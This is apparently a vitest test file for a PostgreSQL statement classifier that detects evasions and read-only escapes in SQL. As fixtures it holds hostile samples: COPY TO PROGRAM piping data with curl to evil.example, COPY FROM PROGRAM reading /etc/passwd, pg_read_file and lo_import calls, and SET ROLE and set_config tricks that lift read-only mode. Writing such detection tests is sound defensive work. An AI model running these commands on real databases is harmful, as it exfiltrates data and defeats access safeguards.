/**
 * classify(): what a SQL text does, from PostgreSQL's own parser. Every statement kind, and
 * every way of hiding what a statement does that the brief names: comments, dollar quoting,
 * multi-statement texts, data-modifying CTEs, EXPLAIN ANALYZE, PREPARE/EXECUTE, DO, CALL,
 * SELECT INTO, CREATE TABLE AS, COPY ... PROGRAM, the read-only escapes, functions in
 * subqueries and CTEs, identifier case and quoting, schema-qualified and unqualified tables.
 */
import { beforeAll, describe, expect, it } from "vitest";
import {
  classify,
  classifyUncached,
  initPolicyParser,
  resolveExecute,
  type StatementInfo,
} from "../../src/policy/classify.js";

beforeAll(async () => {
  await initPolicyParser();
});

/** The only statement of `sql`. */
function one(sql: string): StatementInfo {
  const c = classifyUncached(sql);
  expect(c.parseError, sql).toBeUndefined();
  expect(c.statements, sql).toHaveLength(1);
  return c.statements[0]!;
}

describe("statement kinds", () => {
  const cases: [string, string][] = [
    ["SELECT * FROM t", "select"],
    ["VALUES (1), (2)", "select"],
    ["TABLE t", "select"],
    ["INSERT INTO t VALUES (1)", "insert"],
    ["UPDATE t SET a = 1 WHERE id = 2", "update"],
    ["DELETE FROM t WHERE id = 2", "delete"],
    ["MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE", "merge"],
    ["COPY t FROM STDIN", "copy-from"],
    ["COPY t TO STDOUT", "copy-to"],
    ["CREATE TABLE t (a int)", "create"],
    ["CREATE INDEX i ON t (a)", "create"],
    ["CREATE VIEW v AS SELECT 1", "create"],
    ["CREATE ROLE r", "create"],
    ["CREATE EXTENSION dblink", "create"],
    ["ALTER TABLE t ADD COLUMN b int", "alter"],
    ["ALTER ROLE r SET search_path = x", "alter"],
    ["COMMENT ON TABLE t IS 'x'", "alter"],
    ["DROP TABLE t", "drop"],
    ["DROP ROLE r", "drop"],
    ["TRUNCATE t", "truncate"],
    ["GRANT SELECT ON t TO r", "grant"],
    ["GRANT r TO u", "grant"],
    ["REVOKE SELECT ON t FROM r", "revoke"],
    ["SET search_path = app", "set"],
    ["RESET search_path", "set"],
    ["BEGIN", "transaction"],
    ["COMMIT", "transaction"],
    ["ROLLBACK TO SAVEPOINT s", "transaction"],
    ["CALL p(1)", "call"],
    ["DO $$BEGIN NULL; END$$", "do"],
    ["EXPLAIN SELECT 1", "explain"],
    ["PREPARE q AS SELECT 1", "prepare"],
    ["EXECUTE q", "execute"],
    ["SHOW search_path", "other"],
    ["VACUUM t", "other"],
    ["LOCK TABLE t", "other"],
    ["LISTEN ch", "other"],
    ["DEALLOCATE q", "other"],
  ];
  it.each(cases)("%s is %s", (sql, kind) => {
    expect(one(sql).kind).toBe(kind);
  });

  it("an unparseable text: parseError, one statement of kind unknown", () => {
    const c = classifyUncached("SELEC * FROM t");
    expect(c.parseError).toMatch(/syntax error at or near "SELEC"/);
    expect(c.statements.map((s) => s.kind)).toEqual(["unknown"]);
  });

  it("a NUL character is unparseable (the server would read a different text)", () => {
    const c = classifyUncached("SELECT 1; --\0\nDELETE FROM t");
    expect(c.parseError).toMatch(/NUL/);
  });

  it("only comments and whitespace: no statements", () => {
    const c = classifyUncached("  -- nothing\n/* here */ ");
    expect(c.parseError).toBeUndefined();
    expect(c.statements).toEqual([]);
  });

  it("classify() needs initPolicyParser(), and its results are frozen", () => {
    const c = classify("SELECT 1");
    expect(Object.isFrozen(c)).toBe(true);
    expect(Object.isFrozen(c.statements[0]!.kinds)).toBe(true);
  });
});

describe("evasions", () => {
  it("comments do not hide a statement: /* */ DELETE and -- comments", () => {
    const s = one("/* harmless */ DELETE /* still */ FROM orders -- the end");
    expect(s.kind).toBe("delete");
    expect(s.whereAbsent).toBe(true);
    const nested = one("/* outer /* nested */ still comment */ DELETE FROM orders");
    expect(nested.kind).toBe("delete");
    // A comment hides only what is inside it.
    const c = classifyUncached("SELECT 1 -- ; DELETE FROM orders\n; DELETE FROM orders");
    expect(c.statements.map((x) => x.kind)).toEqual(["select", "delete"]);
  });

  it("a ; inside a dollar quote or a string does not split statements", () => {
    const c = classifyUncached(
      "SELECT $$;DELETE FROM orders$$, $x$;DROP TABLE t;$x$, ';TRUNCATE t'",
    );
    expect(c.statements.map((s) => s.kind)).toEqual(["select"]);
    expect(c.statements[0]!.tables).toEqual([]);
  });

  it("multi-statement texts: one StatementInfo each", () => {
    const c = classifyUncached("SELECT 1; UPDATE t SET a = 1; DROP TABLE u;");
    expect(c.statements.map((s) => s.kind)).toEqual(["select", "update", "drop"]);
    expect(c.statements[1]!.whereAbsent).toBe(true);
    expect(c.statements[2]!.tables).toEqual(["*.u"]);
  });

  it("a data-modifying CTE is also a delete/update/insert on its table", () => {
    const s = one("WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d");
    expect(s.kind).toBe("select");
    expect(s.kinds).toEqual(["select", "delete"]);
    expect(s.tables).toEqual(["*.t"]); // d is the CTE, not a table
    expect(s.whereAbsentKinds).toEqual(["delete"]);
    const deep = one(
      "SELECT * FROM (WITH u AS (UPDATE acc SET b = 0 WHERE id = 1 RETURNING 1) SELECT * FROM u) x",
    );
    expect(deep.kinds).toEqual(["select", "update"]);
    expect(deep.whereAbsent).toBe(false);
    const ins = one(
      "WITH i AS (INSERT INTO audit VALUES (1) RETURNING 1) DELETE FROM t WHERE a = 1",
    );
    expect(ins.kinds).toEqual(["delete", "insert"]);
  });

  it("INSERT ... ON CONFLICT DO UPDATE updates; MERGE does what its WHEN clauses say", () => {
    expect(one("INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET a = 1").kinds).toEqual([
      "insert",
      "update",
    ]);
    expect(one("INSERT INTO t VALUES (1) ON CONFLICT DO NOTHING").kinds).toEqual(["insert"]);
    const merge = one(
      "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED AND s.gone THEN DELETE WHEN MATCHED THEN UPDATE SET a = s.a WHEN NOT MATCHED THEN INSERT VALUES (s.id)",
    );
    expect(merge.kinds).toEqual(["merge", "delete", "update", "insert"]);
    expect(merge.whereAbsent).toBe(false);
  });

  it("EXPLAIN ANALYZE executes its statement; plain EXPLAIN does not", () => {
    expect(one("EXPLAIN ANALYZE DELETE FROM t").kinds).toEqual(["explain", "delete"]);
    expect(one("EXPLAIN (ANALYZE, BUFFERS) DELETE FROM t").kinds).toEqual(["explain", "delete"]);
    expect(one("EXPLAIN (ANALYZE true) UPDATE t SET a = 1").kinds).toEqual(["explain", "update"]);
    expect(one("EXPLAIN (ANALYZE 1) DELETE FROM t").kinds).toEqual(["explain", "delete"]);
    const plain = one("EXPLAIN DELETE FROM t");
    expect(plain.kinds).toEqual(["explain"]);
    expect(plain.whereAbsent).toBe(false);
    expect(plain.tables).toEqual(["*.t"]); // still named, for table rules
    expect(one("EXPLAIN (ANALYZE off) DELETE FROM t").kinds).toEqual(["explain"]);
    expect(one("EXPLAIN (ANALYZE false, VERBOSE) DELETE FROM t").kinds).toEqual(["explain"]);
  });

  it("PREPARE counts its statement; EXECUTE names the prepared statement", () => {
    const p = one("PREPARE x (int) AS DELETE FROM t WHERE id = $1");
    expect(p.kinds).toEqual(["prepare", "delete"]);
    expect(p.prepareName).toBe("x");
    expect(p.tables).toEqual(["*.t"]);
    const e = one("EXECUTE x(42)");
    expect(e.kind).toBe("execute");
    expect(e.executeName).toBe("x");
    expect(e.kinds).toEqual(["execute"]);
  });

  it("resolveExecute: an EXECUTE takes on what its prepared statement runs", () => {
    const prepared = classifyUncached("PREPARE x AS DELETE FROM t");
    const exec = classifyUncached("SELECT 1; EXECUTE x; EXECUTE unknown");
    const r = resolveExecute(exec, (name) => (name === "x" ? prepared : undefined));
    expect(r.statements.map((s) => s.kinds)).toEqual([
      ["select"],
      ["execute", "delete"],
      ["execute"],
    ]);
    expect(r.statements[1]!.tables).toEqual(["*.t"]);
    expect(r.statements[1]!.whereAbsent).toBe(true);
    expect(r.statements[1]!.executeName).toBe("x");
  });

  it("DO blocks: the statements inside count; EXECUTE inside is dynamic SQL", () => {
    const s = one(
      "DO $$DECLARE n int := (SELECT count(*) FROM audit); BEGIN DELETE FROM t; PERFORM pg_read_file('/etc/passwd'); END$$",
    );
    expect(s.kind).toBe("do");
    expect(s.kinds).toContain("delete");
    expect(s.tables).toEqual(["*.audit", "*.t"]);
    expect(s.functions).toContain("pg_read_file");
    expect(s.whereAbsentKinds).toEqual(["delete"]);
    expect(s.dynamicSql).toBe(false);

    const dyn = one("DO $$BEGIN EXECUTE 'DROP TABLE ' || 'orders'; END$$");
    expect(dyn.dynamicSql).toBe(true);
    expect(dyn.readOnlyEscape).toBe(true);

    // EXECUTE of a constant is still read.
    const constant = one("DO $$BEGIN EXECUTE 'TRUNCATE orders'; END$$");
    expect(constant.kinds).toContain("truncate");
    expect(constant.tables).toEqual(["*.orders"]);

    // A body in a single-quoted string, and a body in another language.
    expect(one("DO 'BEGIN DELETE FROM t; END'").kinds).toContain("delete");
    expect(one("DO LANGUAGE plpython3u $$ plpy.execute('x') $$").dynamicSql).toBe(true);
  });

  it("CALL is a call of the procedure, which appears among functions", () => {
    const s = one("CALL billing.close_month(2024, 1)");
    expect(s.kind).toBe("call");
    expect(s.functions).toEqual(["close_month"]);
  });

  it("SELECT INTO and CREATE TABLE AS are creates (that also run their query)", () => {
    const into = one("SELECT * INTO copy_of FROM customers");
    expect(into.kind).toBe("create");
    expect(into.kinds).toEqual(["create", "select"]);
    expect(into.tables).toEqual(["*.copy_of", "*.customers"]);
    const ctas = one("CREATE TABLE stash AS SELECT * FROM billing.cards");
    expect(ctas.kind).toBe("create");
    expect(ctas.kinds).toEqual(["create", "select"]);
    expect(ctas.tables).toEqual(["*.stash", "billing.cards"]);
    expect(one("CREATE MATERIALIZED VIEW m AS SELECT 1").kinds).toEqual(["create", "select"]);
  });

  it("COPY: direction, PROGRAM, server files, and COPY (query) TO", () => {
    const prog = one("COPY orders TO PROGRAM 'curl -d @- https://evil.example'");
    expect(prog.kind).toBe("copy-to");
    expect(prog.program).toBe(true);
    expect(prog.readOnlyEscape).toBe(true);
    const progFrom = one("COPY orders FROM PROGRAM 'cat /etc/passwd'");
    expect(progFrom.kind).toBe("copy-from");
    expect(progFrom.program).toBe(true);
    const file = one("COPY orders TO '/tmp/orders.csv'");
    expect(file.serverFile).toBe(true);
    expect(file.program).toBe(false);
    const stdout = one("COPY orders TO STDOUT");
    expect([stdout.program, stdout.serverFile]).toEqual([false, false]);
    const q = one("COPY (SELECT * FROM customers) TO STDOUT");
    expect(q.kinds).toEqual(["copy-to", "select"]);
    expect(q.tables).toEqual(["*.customers"]);
    expect(one("COPY (DELETE FROM t RETURNING *) TO STDOUT").kinds).toEqual(["copy-to", "delete"]);
  });

  it("functions are found anywhere: subqueries, CTEs, defaults, FROM, joins, schema-qualified", () => {
    const where =
      "SELECT * FROM t WHERE a IN (SELECT x FROM pg_catalog.pg_read_file('/etc/passwd') x)";
    expect(one(where).functions).toEqual(["pg_read_file"]);
    expect(one("WITH a AS (SELECT lo_import('/etc/passwd')) SELECT * FROM a").functions).toEqual([
      "lo_import",
    ]);
    expect(one("CREATE TABLE t (a text DEFAULT pg_read_file('/etc/passwd'))").functions).toEqual([
      "pg_read_file",
    ]);
    expect(
      one("SELECT * FROM a JOIN LATERAL (SELECT dblink_exec('host=x', 'DELETE FROM t')) d ON true")
        .functions,
    ).toEqual(["dblink_exec"]);
    expect(one("SELECT PG_READ_FILE('x')").functions).toEqual(["pg_read_file"]);
    expect(one('SELECT "pg_catalog"."pg_read_file"(\'x\')').functions).toEqual(["pg_read_file"]);
    expect(one("SELECT * FROM t ORDER BY lower(name)").functions).toEqual(["lower"]);
    // In a CREATE FUNCTION body (SQL or PL/pgSQL), too.
    expect(
      one("CREATE FUNCTION f() RETURNS text LANGUAGE sql AS $$SELECT pg_read_file('x')$$")
        .functions,
    ).toEqual(["pg_read_file"]);
    expect(
      one(
        "CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$BEGIN PERFORM dblink_exec('x', 'y'); END$$",
      ).functions,
    ).toEqual(["dblink_exec"]);
  });

  it("identifier case and quoting: unquoted names fold to lower case, quoted ones do not", () => {
    expect(one("SELECT * FROM Customers").tables).toEqual(["*.customers"]);
    expect(one("SELECT * FROM CUSTOMERS").tables).toEqual(["*.customers"]);
    expect(one('SELECT * FROM "Customers"').tables).toEqual(["*.Customers"]);
    expect(one('SELECT * FROM "customers"').tables).toEqual(["*.customers"]);
    expect(one('SELECT * FROM Public."Secret Table"').tables).toEqual(["public.Secret Table"]);
    expect(one('SELECT * FROM "a.b"').tables).toEqual(['*."a.b"']);
    expect(one('SELECT * FROM "a.b"').tableRefs).toEqual([{ schema: null, name: "a.b" }]);
  });

  it("schema-qualified and unqualified tables; CTE names are not tables, unless out of scope", () => {
    expect(one("SELECT * FROM public.customers c JOIN orders o ON o.c = c.id").tables).toEqual([
      "*.orders",
      "public.customers",
    ]);
    expect(one("SELECT * FROM db.public.customers").tables).toEqual(["public.customers"]);
    // The outer "secrets" is the real table, the inner one the CTE.
    expect(
      one("SELECT * FROM secrets, (WITH secrets AS (SELECT 1) SELECT * FROM secrets) x").tables,
    ).toEqual(["*.secrets"]);
    // Without RECURSIVE a CTE sees only the ones before it: b in a's body is a table.
    expect(one("WITH a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a").tables).toEqual([
      "*.b",
    ]);
    expect(
      one("WITH RECURSIVE a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a").tables,
    ).toEqual([]);
    // A schema-qualified name is never a CTE.
    expect(one("WITH t AS (SELECT 1) SELECT * FROM public.t").tables).toEqual(["public.t"]);
  });

  it("tables of DDL, TRUNCATE, GRANT, LOCK, DROP and COMMENT", () => {
    expect(one("DROP TABLE billing.cards, orders").tables).toEqual(["*.orders", "billing.cards"]);
    expect(one("TRUNCATE a, b.c").tables).toEqual(["*.a", "b.c"]);
    expect(one("GRANT SELECT ON billing.cards TO public").tables).toEqual(["billing.cards"]);
    expect(one("LOCK TABLE orders IN ACCESS EXCLUSIVE MODE").tables).toEqual(["*.orders"]);
    expect(one("ALTER TABLE billing.cards DROP COLUMN pan").tables).toEqual(["billing.cards"]);
    expect(one("COMMENT ON COLUMN billing.cards.pan IS 'x'").tables).toEqual(["billing.cards"]);
    expect(one("INSERT INTO audit SELECT * FROM billing.cards").tables).toEqual([
      "*.audit",
      "billing.cards",
    ]);
  });

  it("WHERE: absent, or naming no column, counts as absent", () => {
    expect(one("DELETE FROM t").whereAbsent).toBe(true);
    expect(one("UPDATE t SET a = 1").whereAbsentKinds).toEqual(["update"]);
    expect(one("DELETE FROM t WHERE true").whereAbsent).toBe(true);
    expect(one("DELETE FROM t WHERE 1 = 1").whereAbsent).toBe(true);
    expect(one("DELETE FROM t WHERE id = 1").whereAbsent).toBe(false);
    expect(one("DELETE FROM t WHERE CURRENT OF c").whereAbsent).toBe(false);
    expect(one("SELECT * FROM t").whereAbsent).toBe(false);
  });
});

describe("read-only escapes", () => {
  const escapes = [
    "SET ROLE postgres",
    "SET SESSION ROLE postgres",
    "SET LOCAL ROLE postgres",
    "RESET ROLE",
    "SET ROLE NONE",
    "SET SESSION AUTHORIZATION postgres",
    "RESET SESSION AUTHORIZATION",
    "SET default_transaction_read_only = off",
    "SET SESSION default_transaction_read_only TO false",
    "SET LOCAL transaction_read_only = 0",
    "SET transaction_read_only TO DEFAULT",
    "SET \"Default_Transaction_Read_Only\" = 'off'",
    "RESET default_transaction_read_only",
    "SET TRANSACTION READ WRITE",
    "SET TRANSACTION ISOLATION LEVEL SERIALIZABLE, READ WRITE",
    "BEGIN READ WRITE",
    "BEGIN ISOLATION LEVEL REPEATABLE READ READ WRITE",
    "START TRANSACTION READ WRITE",
    "SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE",
    "RESET ALL",
    "DISCARD ALL",
    "ALTER SYSTEM SET default_transaction_read_only = off",
    "SELECT set_config('transaction_read_only', 'off', false)",
    "SELECT pg_catalog.set_config('default_transaction_read_only', 'off', false)",
    "SELECT set_config('DEFAULT_TRANSACTION_READ_ONLY', 'no', true)",
    "SELECT set_config('role', 'postgres', false)",
    "SELECT set_config(new_value => 'off', setting_name => 'transaction_read_only', is_local => false)",
    "SELECT set_config(current_setting('my.name'), 'off', false)",
    "SELECT set_config('default_transaction_read_only', current_setting('my.value'), false)",
    "UPDATE pg_settings SET setting = 'off' WHERE name = 'default_transaction_read_only'",
    "SELECT * FROM t WHERE EXISTS (SELECT set_config('transaction_read_only', 'off', true))",
    "WITH x AS (SELECT set_config('default_transaction_read_only', 'off', false)) SELECT * FROM x",
    "SELECT dblink_exec('dbname=app', 'DELETE FROM orders')",
    "COPY (SELECT 1) TO PROGRAM 'psql -c \"DELETE FROM orders\"'",
    "DO $$BEGIN SET ROLE postgres; END$$",
    "DO $$BEGIN EXECUTE 'SET default_transaction_read_only = off'; END$$",
    "DO $$BEGIN EXECUTE format('SET %I = off', 'default_transaction_read_only'); END$$",
    "EXPLAIN ANALYZE SELECT set_config('default_transaction_read_only', 'off', false)",
  ];
  it.each(escapes)("%s", (sql) => {
    const s = one(sql);
    expect(s.readOnlyEscape).toBe(true);
    expect(s.readOnlyEscapeReasons.length).toBeGreaterThan(0);
  });

  const harmless = [
    "SET default_transaction_read_only = on",
    "SET transaction_read_only TO true",
    "SET LOCAL transaction_read_only = 1",
    "SET TRANSACTION READ ONLY",
    "BEGIN READ ONLY",
    "START TRANSACTION ISOLATION LEVEL SERIALIZABLE, READ ONLY, DEFERRABLE",
    "SET SESSION CHARACTERISTICS AS TRANSACTION READ ONLY",
    "SET search_path = app, public",
    "RESET search_path",
    "SELECT set_config('search_path', 'app', false)",
    "SELECT set_config('transaction_read_only', 'on', true)",
    "SELECT current_setting('transaction_read_only')",
    "SELECT * FROM pg_settings WHERE name = 'x'",
    "SHOW transaction_read_only",
  ];
  it.each(harmless)("not an escape: %s", (sql) => {
    expect(one(sql).readOnlyEscape).toBe(false);
  });

  it("changes to how the server reads SQL are flagged as lexer changes", () => {
    for (const sql of [
      "SET standard_conforming_strings = off",
      "SET standard_conforming_strings TO DEFAULT",
      "RESET standard_conforming_strings",
      "SET client_encoding = 'SJIS'",
      "SET NAMES 'GBK'",
      "SELECT set_config('standard_conforming_strings', 'off', false)",
      "SELECT set_config('client_encoding', 'BIG5', false)",
    ]) {
      expect(one(sql).lexerChange.length, sql).toBeGreaterThan(0);
    }
    for (const sql of [
      "SET standard_conforming_strings = on",
      "SET client_encoding = 'UTF8'",
      "SET NAMES 'utf-8'",
      "SET client_encoding TO unicode",
    ]) {
      expect(one(sql).lexerChange, sql).toEqual([]);
    }
  });
});
